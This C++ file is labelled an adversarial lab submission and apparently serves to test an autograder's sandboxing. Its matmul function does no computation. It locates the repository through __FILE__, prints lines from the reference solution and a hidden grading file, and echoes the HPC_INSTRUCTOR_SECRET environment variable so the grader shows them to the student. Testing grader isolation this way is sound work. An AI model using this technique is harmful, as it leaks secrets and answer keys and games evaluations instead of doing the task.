// Adversarial submission: at run time, prints the reference solution, a hidden test and the
// grader's environment, so that the grader would copy them into the results the student sees.
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <string>

#include "lab01/matmul.hpp"

namespace hpc::lab01 {

namespace {
void print_file(const std::string& path) {
  std::ifstream in(path);
  std::string line;
  for (int i = 0; i < 5 && std::getline(in, line); ++i) std::cout << "LEAK " << line << "\n";
}
}  // namespace

void matmul(std::span<const double>, std::span<const double>, std::span<double>, std::size_t) {
  // The repository's path is in __FILE__ (…/build/submission-src/labs/…).
  const std::string here = __FILE__;
  const std::string root = here.substr(0, here.find("/build/"));
  print_file(root + "/solutions/01-vectorization/src/matmul.cpp");
  print_file(root + "/hidden/01-vectorization/grading.toml");
  if (const char* secret = std::getenv("HPC_INSTRUCTOR_SECRET")) std::cout << "LEAK " << secret << "\n";
  std::cout.flush();
}

}  // namespace hpc::lab01
